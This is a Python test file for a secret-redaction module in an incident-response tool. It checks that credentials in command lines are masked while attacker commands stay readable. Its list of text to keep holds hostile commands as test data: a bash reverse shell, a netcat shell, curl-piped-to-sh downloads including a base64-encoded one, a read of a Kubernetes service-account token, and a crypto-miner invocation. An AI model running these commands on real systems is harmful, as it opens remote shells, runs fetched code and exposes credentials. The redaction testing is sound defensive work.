"""Secrets are found in text by their shape or by what stands beside them; an attacker's command line stays readable."""

from __future__ import annotations

import base64
import time

import pytest

from scc_responder.execute.evidence import secret_text
from scc_responder.execute.evidence.secret_text import RedactionRule, names_secret, redact_text, redact_words

CANARY = "s3cr3t-canary"

SECRETS = {
    RedactionRule.NAMED_SECRET: [
        "app --password=%s",
        "app --token %s",
        "PGPASSWORD=%s psql",
        "Server=a;User Id=b;Password=%s;",
        "AccountKey=%s==;",
        "api_key: %s",
        "X-Api-Key: %s",
        '{"dbPassword": "%s and more"}',
        "export MYSQL_PWD='%s x'",
        '{\\"secret\\": \\"%s\\"}',
        "java -Djavax.net.ssl.keyStorePassword=%s",
        "curl -b session_id=%s",
        "password '%s'",
        "https://x?sig=%s",
        "pw=%s",
        'password="ab\\"%s"',
        "password='it'\\''s %s'",
        "password=$'%s'",
        "password=ab,%s",
        "--password=ab&%s",
        "password\\u003d%s",
        "password: >-\n  %s",
        "consumer_key=%s",
        "x-functions-key: %s",
        "otp=%s",
    ],
    RedactionRule.OPTION: [
        "curl -u bob:%s https://example.com",
        "curl -s -u %s x",
        "wget --user bob:%s",
        "mysql -uroot -p%s db",
        "sshpass -p %s ssh x",
        "docker login -u a -p %s",
        "redis-cli -h a -a %s",
        "smbclient -U a%%%s",
        "openssl rsa -passin pass:%s",
        "tool -p%s",
        "kubectl create secret generic a --from-literal=k=%s",
        "echo root:%s | chpasswd",
        "CREATE USER a IDENTIFIED BY '%s'",
        "mosquitto_pub -u a -P %s",
        "vault login %s",
        "htpasswd -b file bob %s",
        "net use x /user:admin %s",
        "machine example.com\n  login bob\n  password %s",
        "ConvertTo-SecureString '%s' -AsPlainText",
    ],
    RedactionRule.URL_USER: [
        "git clone https://bob:%s@example.com/x",
        "https://%s@example.com",
        "amqp://a:%s/x@y@example.com",
    ],
    RedactionRule.AUTHORIZATION: [
        "Authorization: Basic %s",
        "authorization=%s",
        "sent bearer %s",
        '"Authorization": "Token %s"',
    ],
    RedactionRule.TOKEN: [
        "ghp_%s",
        "gho_%s",
        "AKIA%s",
        "AIza%s",
        "ya29.%s",
        "xoxb-%s",
        "sk-%s",
        "eyJh%s.x.y",
        "glpat-%s",
        "glrt-%s",
        "sk_test_%s",
        "whsec_%s",
        "dckr_pat_%s",
        "shpat_%s",
        "hf_abcdefghijklmnopq%s",
        "https://hooks.slack.com/services/T0/B0/%s",
        "https://example.com/api/webhooks/123/%s",
    ],
    RedactionRule.PRIVATE_KEY: [
        "-----BEGIN RSA PRIVATE KEY-----\n%s\n-----END RSA PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\n%s",
        "PuTTY-User-Key-File-2: ssh-rsa\nPrivate-Lines: 8\n%s\nPrivate-MAC: 0a",
    ],
}


@pytest.mark.parametrize("rule", SECRETS, ids=str)
def test_a_secret_in_a_text_is_found_by_its_rule(rule: RedactionRule) -> None:
    """What stands around it stays."""
    for pattern in SECRETS[rule]:
        kept, rules = redact_text(pattern % CANARY)
        assert CANARY not in kept, pattern
        assert "redacted" in kept, pattern
        assert rule in rules, pattern


@pytest.mark.parametrize("inner", [f"password={CANARY}", "PLANTED77", f"https://a:{CANARY}@example.com"])
def test_a_secret_in_base64_is_left_out_also_twice_wrapped(inner: str) -> None:
    """A mask is no protection."""
    single = base64.b64encode(inner.encode()).decode()
    for wrapped in (single, base64.b64encode(f"echo {single}".encode()).decode()):
        assert redact_text(f"echo {wrapped} | base64 -d") == ("echo redacted | base64 -d", (RedactionRule.ENCODED,))


STAYS = [
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "nc -lvp 4444 -e /bin/sh",
    "mkdir -p /tmp/x && curl -sSL http://192.0.2.1:8080/x.sh | sh",
    "find / -perm -4000 -print0; ps -p 1; ssh -p 22 root@192.0.2.1; tar -xzpf /tmp/A.tgz",
    "echo " + base64.b64encode(b"curl http://192.0.2.1/x.sh | bash").decode() + " | base64 -d | sh",
    "CVE-2021-44228 at 2026-03-01T12:00:00Z",
    'Pulling image "example.com/p/App@sha256:' + "ab12" * 16 + '"',
    "Successfully assigned shop/web-7d4b9c-x2x9p to gke-a-pool-1a2b3c4d-x1y2",
    "Back-off restarting container in pod web_shop(7C9E6679-7425-40de-944b-e07fc1f90ae7)",
    "docker run -p 8080:80 -u 1000:1000 nginx",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "xmrig -o pool.example.com:3333 -u 4" + "A1b" * 31 + "z",
    "cp -pr /a /b; sort --key=2,3; kubectl taint nodes a key=value:NoSchedule",
    'password authentication failed for user "postgres"',
    "user login failed: password authentication failed",
    "token=$A,user=b; password=$B&&run",
    "password=$DB_PASSWORD --token=$(cat /x)",
    "//container.googleapis.com/projects/p/zones/europe-west1-b/clusters/c",
]


@pytest.mark.parametrize("text", STAYS)
def test_what_an_analyst_needs_stays(text: str) -> None:
    """Commands, addresses, paths, hashes, names, dates, wallets, an encoded script without secrets."""
    assert redact_text(text) == (text, ())


@pytest.mark.parametrize("space", [" ", "\t", "\n", "\u00a0", "\u2003", "\x1f"], ids=repr)
def test_a_pattern_that_can_match_is_never_left_out(space: str) -> None:
    """Which patterns look at a text follows from its letters, whatever white space it has."""
    texts = [text.replace("%s", CANARY) for texts in SECRETS.values() for text in texts]
    every = secret_text._patterns(secret_text._LETTERS)
    assert len(every) == sum(map(len, secret_text._PATTERNS.values()))
    for text in (each.replace(" ", space) for each in texts):
        looking = set(secret_text._patterns(frozenset(map(secret_text._letter, set(text)))))
        assert {(rule, pattern) for rule, pattern in every if pattern.search(text)} <= looking


WORDS = [
    ["--password", f"{CANARY} two"],
    ["curl", "-u", CANARY],
    ["sshpass", "-p", CANARY, "ssh"],
    ["mysql", f"-p{CANARY}"],
    [f"--password={CANARY} x"],
    ["curl", "-u", f"bob:{CANARY}"],
    ["curl", "-H", f"X-Api-Key: {CANARY}"],
    ["curl", "-u", f"my {CANARY}"],
    ["curl", "-H", f"Authorization: Basic {CANARY}"],
]


@pytest.mark.parametrize("words", WORDS, ids=str)
def test_words_are_looked_through_as_one_line(words: list[str]) -> None:
    """An option and its value are two words."""
    kept = redact_words(words)
    assert len(kept) == len(words)
    assert kept[0][0].startswith(words[0][:4])
    assert CANARY not in str(kept)


def test_a_field_that_names_where_a_secret_is_holds_none() -> None:
    """The name of a Secret is no secret."""
    named = {
        name: names_secret(name) for name in ("dbPassword", "client_secret", "secretName", "secretRef", "tokenPath")
    }
    assert named == {
        "dbPassword": True,
        "client_secret": True,
        "secretName": False,
        "secretRef": False,
        "tokenPath": False,
    }


def test_a_bootstrap_token_is_one_by_its_shape() -> None:
    """kubeadm's: six letters or digits, a point, and sixteen."""
    assert redact_text("join abcdef.0123456789abcdef x")[0] == "join redacted x"
    assert redact_text("abcdef.abcdefghijklmnop")[1] == ()


LONG = [
    "login a ",
    "net use ",
    'password="\\"',
    "password=,a",
    "abcde1.",
    "a",
    "://",
    "password ",
    "-p ",
    "mysql ",
    "curl -",
    "-----BEGIN PRIVATE KEY-----",
    "secret.-",
    "echo ",
    "eyJ",
    "'",
    "--",
]


@pytest.mark.parametrize("piece", LONG)
def test_no_text_of_an_attacker_takes_long(piece: str) -> None:
    """Twice the text takes about twice the time."""
    started = time.process_time()
    redact_text((piece * 200_000)[:200_000])
    assert time.process_time() - started < 5
